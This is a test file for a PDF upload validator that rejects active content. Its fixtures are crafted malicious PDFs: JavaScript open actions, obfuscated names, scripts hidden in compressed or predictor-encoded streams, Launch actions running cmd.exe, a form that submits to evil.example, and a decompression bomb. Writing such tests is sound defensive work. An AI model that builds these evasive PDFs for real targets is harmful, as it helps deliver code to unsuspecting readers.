import { deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";
import { cpuTime } from "@/tests/support/cpu-time";
import { pdfOf } from "@/tests/support/samples/pdf";
import { isPdf, rejectActivePdf } from "./pdfs";

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat(["%PDF-1.7\n", ...parts, "\ntrailer\n<</Root 1 0 R>>\n%%EOF"].map((part) => Buffer.from(part)));

const stream = (dictionary: string, content: Buffer | string) =>
  Buffer.concat(
    [`9 0 obj\n<<${dictionary}>>\nstream\n`, content, "\nendstream\nendobj\n"].map((part) => Buffer.from(part)),
  );

const packed = (objects: string, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") =>
  stream(dictionary, deflateSync(objects));

/** The PNG predictor: each byte relative to the one above it. */
function predicted(text: string, columns: number): Buffer {
  const rows = text.padEnd(Math.ceil(text.length / columns) * columns).match(new RegExp(`.{${columns}}`, "gs")) ?? [];
  return Buffer.concat(
    rows.map((row, at) => {
      const above = Buffer.from(rows[at - 1] ?? "\0".repeat(columns), "latin1");
      const difference = Buffer.from(row, "latin1").map((byte, index) => (byte - (above[index] ?? 0)) & 255);
      return Buffer.concat([Buffer.from([2]), difference]);
    }),
  );
}

const packedScript = "1 0 <</S/JavaScript/JS(app.alert(1))>>";

const script = "1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>\nendobj";

test.each([
  ["a script that runs when it is opened", pdf(script)],
  ["a numerically encoded name", pdf(script.replace("JavaScript", "J#61vaScrip#74"))],
  ["a script among packed objects", pdf(packed(`1 0 <</S/JavaScript/JS(app.alert(1))>>`))],
  ["a script behind a comment that looks like a stream", pdf("%stream\n", packed(packedScript))],
  ["packed objects that are not declared", pdf(packed("1 0 <</S /Launch /F (cmd.exe)>>", "/N 1 /First 4"))],
  ["a program", pdf("1 0 obj\n<</A <</S /Launch /F (cmd.exe)>> >>\nendobj")],
  ["another file", pdf("1 0 obj\n<</Names <</EmbeddedFiles 2 0 R>> >>\nendobj")],
  ["an embedded form", pdf("1 0 obj\n<</AcroForm <</XFA 2 0 R>> >>\nendobj")],
  ["a form that sends itself", pdf("1 0 obj\n<</A<</S/SubmitForm/F(https://evil.example)>>>>\nendobj")],
])("%s is rejected with a sentence that says what to do", async (_, bytes) => {
  await expect(rejectActivePdf(bytes, "one")).rejects.toMatchObject({
    code: "unsupported_type",
    message: expect.stringMatching(/^This PDF contains .+\. Print it to a new PDF and attach that one\.$/) as string,
  });
});

const locked = (passwords: object): Promise<Buffer> =>
  new Promise((resolve) => {
    const made: Buffer[] = [];
    const document = new PDFDocument(passwords);
    document.on("data", (part: Buffer) => made.push(part)).on("end", () => resolve(Buffer.concat(made)));
    document.text("Rate card").end();
  });

test.each([
  ["a password to open it", { userPassword: "a", ownerPassword: "b" }, "is password-protected"],
  ["only an owner password", { ownerPassword: "b" }, "opens without a password but is locked"],
])("one with %s is rejected, and the sentence says which it is", async (_, passwords, reason) => {
  await expect(rejectActivePdf(await locked(passwords), "one")).rejects.toThrow(reason);
});

test.each([
  ["protected by a password", pdf("trailer\n<</Encrypt 5 0 R>>"), "is password-protected"],
  [
    "packed twice",
    pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", "789c")),
    "compressed",
  ],
  [
    "packed with a predictor",
    pdf(
      stream(
        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 16>>",
        deflateSync(predicted(packedScript, 16)),
      ),
    ),
    "compressed",
  ],
  [
    "packed with a predictor that is named first",
    pdf(
      stream(
        "/DecodeParms<</Predictor 12/Columns 16>>/Filter/FlateDecode/First 4/N 1/Type/ObjStm",
        deflateSync(predicted(packedScript, 16)),
      ),
    ),
    "compressed",
  ],
  [
    "packed behind a comment",
    pdf(stream("/Type/ObjStm/N 1/First 4%stream\n/Filter/FlateDecode", deflateSync(packedScript))),
    "compressed",
  ],
  ["a bomb", pdf(packed(" ".repeat(65 * 1024 * 1024))), "compressed"],
])("a file that cannot be inspected is rejected: %s", async (_, bytes, why) => {
  await expect(rejectActivePdf(bytes, "one")).rejects.toMatchObject({
    code: "unsupported_type",
    message: expect.stringContaining(why) as string,
  });
});

test.each([
  ["words about JavaScript in its text", pdf(stream("", "BT (We write JavaScript, see /launches) Tj ET"))],
  [
    "links and a first page",
    pdf("1 0 obj\n<</OpenAction [3 0 R /Fit] /A <</S /URI /URI (https://a.test)>> >>\nendobj"),
  ],
  ["ordinary packed objects", pdf(packed("1 0 <</Type /Page /Launcher 1>>"))],
  [
    "a picture after an outline",
    pdf("2 0 obj\n<</First 3 0 R>>\nendobj\n", stream("/Filter /DCTDecode", "\u00ff\u00d8")),
  ],
])("%s are no reason for rejection", async (_, bytes) => {
  await expect(rejectActivePdf(bytes, "one")).resolves.toBeUndefined();
});

test("a PDF has to be one from its first byte", () => {
  const answers = ["%PDF-1.4\n", "%PDF-2.0\n", " %PDF-1.4\n", "%PDF-9.9", ""].map((head) => isPdf(Buffer.from(head)));
  expect(answers).toEqual([true, true, false, false, false]);
});

test("a script that only a reader finds is found by reading", async () => {
  const names = "<< /Names << /J#61vaScript << /Names [(a) << /S /J#61vaScript /JS (app.alert(1)) >>] >> >> >>";
  const hidden = Buffer.from(
    pdfOf([["Rate card"]])
      .toString("latin1")
      .replace("/Type /Catalog", `/Type /Catalog ${names}`),
  );
  await expect(rejectActivePdf(hidden, "one")).rejects.toMatchObject({ code: "unsupported_type" });
});

test("an ordinary document is accepted, and checked quickly", async () => {
  await expect(
    rejectActivePdf(pdfOf(Array.from({ length: 200 }, () => ["Rate card"])), "one"),
  ).resolves.toBeUndefined();
});

test("millions of numerically encoded names take no longer than any others", async () => {
  const [numbered, plain] = ["#41", "AAA"].map((name) => pdf(packed(name.repeat(20_000_000)))) as [Buffer, Buffer];
  const usual = await cpuTime(() => rejectActivePdf(plain, "one"));
  expect(await cpuTime(() => rejectActivePdf(numbered, "one"))).toBeLessThan(20 * usual);
});
